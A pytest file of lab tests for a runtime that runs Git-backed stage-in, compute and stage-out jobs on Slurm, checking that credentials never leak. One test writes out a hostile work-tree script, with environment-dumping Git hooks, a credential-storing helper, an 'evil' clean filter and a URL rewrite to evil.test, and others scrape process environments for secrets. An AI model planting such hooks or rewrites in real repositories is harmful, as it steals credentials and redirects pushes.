"""A Run's three stages on the host's own Slurm 24.11, as the member, from and to a Git server (S1–S4)."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.lab.running import PASSWORD, Attempt, Running, scene_on, until
from tests.lab.tree import HostTree
from tests.simulators.git.server_state import Faults

pytestmark = pytest.mark.lab


@pytest.fixture(scope="module")
def scene(lab_tree: HostTree, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    with scene_on(lab_tree, tmp_path_factory.mktemp("running")) as made:
        yield made


def test_1_s6_doctor_finds_every_owner(scene: Running) -> None:
    done = scene.ask("run", "--check-owners")
    assert done.returncode == 0, done.stdout + done.stderr
    assert "coordinator of pharos" in done.stdout


def test_2_s2_s4_three_stages_and_their_output(scene: Running) -> None:
    scene.start()
    idle = until(lambda: json.loads(scene.ask("status", "--json").stdout)["state"] == "ready", 60.0)
    assert idle, f"an idle Runtime is ready too (S6, S10): {scene.ask('status').stdout}"
    attempt = Attempt(scene)
    stage_in = attempt.submit("stage-in")
    result = attempt.result(stage_in)
    assert result["verdict"] == "completed", (
        result,
        scene.slurm("sh", "-c", "cat /scratch/pharos/alice/*/logs/*"),
    )
    assert scene.jobs(stage_in) == [stage_in.ack["jobId"]] if stage_in.ack else False
    compute = attempt.compute("sh", "run.sh", 'it\'s $HOME; *\n"two" lines')
    result = attempt.result(compute)
    assert (result["verdict"], result["exitCode"]) == ("completed", 0)
    assert result["usage"]["allocated"] == {"cpu": 1000, "memory": 256 << 20}
    stage_out = attempt.stage_out("result.txt")
    result = attempt.result(stage_out)
    assert result["verdict"] == "completed", (
        result,
        scene.slurm("sh", "-c", "cat /scratch/pharos/alice/*/logs/*"),
    )
    assert result["output"] == {
        "ref": attempt.ref,
        "commit": scene.repositories.refs("group/work.git")[attempt.ref],
    }
    attempt.result(attempt.cleanup())
    assert scene.slurm("ls", "/scratch/pharos/.runtime") == ""


def test_3_x5_k08_the_credential_is_nowhere(scene: Running) -> None:
    assert scene.tokens
    for planted in (PASSWORD, *scene.tokens):
        assert planted not in scene.log()
        found = scene.slurm(
            "grep", "-rlF", planted, "/var/lib/pharos-runtime", "/run/pharos-runtime", "/scratch"
        )
        assert found == ""


def scrape(scene: Running, *words: str, user: str | None = None) -> str:
    """Both outputs of a command on the host, whatever its status."""
    done = scene.host.exec(list(words), user=user, check=False, timeout=60.0)
    return done.stdout + done.stderr


def test_4_x5_k08_planted_values_are_nowhere_while_a_stage_runs(scene: Running) -> None:
    """Searched for as root, as the member and as another member, while the stage's job holds them."""
    scene.repositories.faults = Faults(seconds=8.0, times=2)
    attempt = Attempt(scene)
    stage_in = attempt.submit("stage-in")
    job = attempt.ack(stage_in)["jobId"]
    assert until(lambda: "RUNNING" in scene.slurm("squeue", "-h", "-j", job, "-o", "%T"), 60.0)
    planted = [PASSWORD, *scene.tokens]
    seen = {}
    for user in (None, "alice", "bob", "pharos-runtime", "pharos-agent"):
        seen[user] = "".join(
            scrape(scene, *words.split(), user=user)
            for words in (
                f"scontrol -d show job {job}",
                f"scontrol --json show job {job}",
                "squeue --json",
                "sacct --json -a -S 2020-01-01",
                "sacct -p -a -S 2020-01-01 -o ALL",
                "sacct --env-vars -j " + job,
                "sacct --batch-script -j " + job,
                f"scontrol write batch_script {job} -",
                "ps auxww",
            )
        )
    for other in ("bob", "pharos-runtime", "pharos-agent"):
        seen[other] += scrape(scene, "sh", "-c", "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline", user=other)
    for user, text in seen.items():
        assert len(text) > 1000, user
        for value in planted:
            assert value not in text, (user, value[:12])
    environ = scrape(scene, "sh", "-c", "cat /proc/[0-9]*/environ | tr '\\0' '\\n' | sort -u", user="alice")
    assert PASSWORD in environ, "the stage itself has the two values"
    assert "SLURM_JWT" not in environ
    for value in planted[1:]:
        assert value not in environ
    assert attempt.result(stage_in)["verdict"] == "completed"


def test_5_x5_no_planted_value_on_the_disk_afterwards(scene: Running) -> None:
    places = [
        "/var/lib/pharos-runtime",
        "/run/pharos-runtime",
        "/scratch",
        "/var/log",
        "/tmp",
        "/home",
        "/etc",
    ]
    for value in (PASSWORD, *scene.tokens):
        assert scrape(scene, "grep", "-rlF", value, *places) == ""
        assert value not in scrape(scene, "journalctl", "--no-pager", "-o", "cat")


def test_6_a41_s2_compute_sees_only_the_named_values(scene: Running) -> None:
    attempt = Attempt(scene)
    attempt.result(attempt.submit("stage-in"))
    compute = attempt.compute(
        "sh", "-c", "env -0 > env.out; id -un > who.out", environment={"OMP": "two\nlines", "E": ""}
    )
    assert attempt.result(compute)["verdict"] == "completed"
    folder = f"/scratch/pharos/alice/{attempt.attempt_id}"
    found = dict(item.split("=", 1) for item in scene.host.read(f"{folder}/work/env.out").split("\0") if item)
    assert (found["OMP"], found["E"], found["USER"]) == ("two\nlines", "", "alice")
    assert found["HOME"] == scene.slurm("sh", "-c", "getent passwd alice | cut -d: -f6").strip()
    ours = {name for name in found if not name.startswith("SLURM")}
    odd = ours - {
        "OMP",
        "E",
        "USER",
        "HOME",
        "LOGNAME",
        "PATH",
        "PWD",
        "OLDPWD",
        "SHLVL",
        "_",
        "TMPDIR",
        "HOSTNAME",
    }
    odd -= {"ENVIRONMENT", "HYDRA_BOOTSTRAP", "HYDRA_LAUNCHER_EXTRA_ARGS", "I_MPI_HYDRA_BOOTSTRAP"}
    odd -= {"I_MPI_HYDRA_BOOTSTRAP_EXEC_EXTRA_ARGS", "OMPI_MCA_plm_slurm_args", "PRTE_MCA_plm_slurm_args"}
    odd -= {"CUDA_VISIBLE_DEVICES", "GPU_DEVICE_ORDINAL", "ROCR_VISIBLE_DEVICES", "ZE_AFFINITY_MASK"}
    assert odd == set() and "SLURM_JWT" not in found
    assert scene.host.read(f"{folder}/work/who.out").strip() == "alice"


def test_7_s4_workspace_is_the_members_alone(scene: Running) -> None:
    shown = scene.slurm("sh", "-c", "stat -c '%a %U' /scratch/pharos/alice /scratch/pharos/alice/*")
    assert {line.split()[0][-3:] for line in shown.splitlines()} == {"700"}
    assert {line.split()[1] for line in shown.splitlines()} == {"alice"}
    for other in ("bob", "pharos-runtime"):
        assert "denied" in scrape(scene, "ls", "/scratch/pharos/alice", user=other)
    assert "denied" in scrape(scene, "ls", "/scratch/pharos/.runtime", user="bob")


def test_8_s2_large_outputs_go_to_lfs_and_a_missing_one_is_named(scene: Running) -> None:
    attempt = Attempt(scene)
    attempt.result(attempt.submit("stage-in"))
    made = "mkdir model; head -c 4096 /dev/zero > 'model/a [b] \"c\".bin'; echo small > model/s.txt"
    assert attempt.result(attempt.compute("sh", "-c", made))["verdict"] == "completed"
    missing = attempt.result(attempt.stage_out("model", "nothing.txt", large=4096))
    assert (missing["verdict"], missing["code"], missing["output"]) == ("failed", "output_missing", None)
    result = attempt.result(attempt.stage_out("model", large=4096))
    assert result["verdict"] == "completed", scene.slurm(
        "sh", "-c", f"cat /scratch/pharos/alice/{attempt.attempt_id}/logs/*"
    )
    bare, commit = scene.repositories.path("group/work.git"), result["output"]["commit"]
    assert b"git-lfs.github.com/spec/v1" in git(bare, "show", f'{commit}:model/a [b] "c".bin')
    assert git(bare, "show", f"{commit}:model/s.txt") == b"small\n"
    assert git(bare, "rev-parse", f"{commit}^").decode().strip() == scene.commit


def test_9_k07_k02_hostile_work_tree_does_not_reach_stage_out(scene: Running) -> None:
    """The member's program leaves settings, hooks and a helper behind; the stage's Git reads none of them."""
    attempt = Attempt(scene)
    attempt.result(attempt.submit("stage-in"))
    hostile = """
printf '#!/bin/sh\\nenv > /tmp/hooked\\n' > .git/hooks/pre-push; cp .git/hooks/pre-push .git/hooks/pre-commit
chmod +x .git/hooks/*; git config credential.helper 'store --file=/tmp/stored'
git config filter.evil.clean 'env >/tmp/hooked; cat'
git config core.askPass /bin/false; git config url.https://evil.test/.insteadOf https://
echo '* filter=evil' > .gitattributes
git config --global credential.helper 'store --file=/tmp/stored'; echo x > result.txt
"""
    assert attempt.result(attempt.compute("sh", "-c", hostile))["verdict"] == "completed"
    assert attempt.result(attempt.stage_out("result.txt"))["verdict"] == "completed"
    assert scene.slurm("sh", "-c", "ls /tmp/hooked /tmp/stored /home/*/.git-credentials 2>/dev/null") == ""


def test_10_k06_k12_wrong_password_redirect_and_another_host_end_in_seconds(scene: Running) -> None:
    attempt = Attempt(scene)
    scene.desk.credential = {"username": "pharos-run", "password": "wrong"}
    try:
        result = attempt.result(attempt.submit("stage-in"))
        assert (result["verdict"], result["code"]) == ("failed", "clone_failed")
    finally:
        scene.desk.credential = {"username": "pharos-run", "password": PASSWORD}
    scene.repositories.faults = Faults(redirect="https://127.0.0.1:1", times=4)
    result = attempt.result(attempt.submit("stage-in"))
    scene.repositories.faults = Faults()
    assert (result["verdict"], result["code"]) == ("failed", "clone_failed")


def test_11_s15_drain_begins_nothing_and_central_is_told(scene: Running) -> None:
    assert scene.ask("drain", "--reason", "Slurm upgrade").returncode == 0
    assert until(lambda: bool(scene.desk.statements), 60.0)
    assert scene.desk.statements[-1]["reason"] == "Slurm upgrade"
    attempt = Attempt(scene)
    stage_in = attempt.submit("stage-in")
    assert not scene.desk.wait(lambda: stage_in.ack is not None, 3.0)
    assert scene.ask("undrain").returncode == 0
    assert until(lambda: scene.desk.statements[-1]["draining"] is False, 60.0)
    assert attempt.result(stage_in, 90.0)["verdict"] == "completed"


def test_12_s14_observe_begins_nothing(scene: Running) -> None:
    env = scene.host.read("/etc/pharos-hpc/runtime.env")
    scene.host.put("/etc/pharos-hpc/runtime.env", (env + "PHAROS_RUNTIME_MODE=observe\n").encode())
    try:
        scene.start()
        attempt = Attempt(scene)
        stage_in = attempt.submit("stage-in")
        assert until(lambda: "would" in scene.log() and str(stage_in.body["commandId"]) in scene.log(), 60.0)
        assert stage_in.ack is None and stage_in.tokens == 0 and scene.jobs(stage_in) == []
    finally:
        scene.host.put("/etc/pharos-hpc/runtime.env", env.encode())
        scene.start()
    assert attempt.result(stage_in)["verdict"] == "completed"


def test_13_s10_status_says_what_slurm_is_asked(scene: Running) -> None:
    done = scene.ask("status", "--json")
    document = json.loads(done.stdout)
    assert done.returncode == 0 and document["state"] == "ready", document["checks"]
    assert document["slurm"]["commands"]["squeue"] > 0
    scene.slurm("sleep", "3")
    before = json.loads(scene.ask("status", "--json").stdout)["slurm"]["commands"]
    scene.slurm("sleep", "3")
    assert json.loads(scene.ask("status", "--json").stdout)["slurm"]["commands"] == before, (
        "idle: asked nothing"
    )


def test_14_s10_it_weighs_little(scene: Running) -> None:
    """Idle RSS at most four times a bare Python's, both measured here."""
    pid = scene.slurm("systemctl", "show", "-P", "MainPID", "driven-runtime").strip()
    rss = int(scene.slurm("awk", "/VmRSS/{print $2}", f"/proc/{pid}/status"))
    bare = "print(open('/proc/self/status').read().split('VmRSS:')[1].split()[0])"
    assert rss <= 4 * int(scene.slurm("python3.13", "-c", bare)), rss


def git(bare: Path, *words: str) -> bytes:
    return subprocess.run(["git", "-C", str(bare), *words], check=True, capture_output=True).stdout
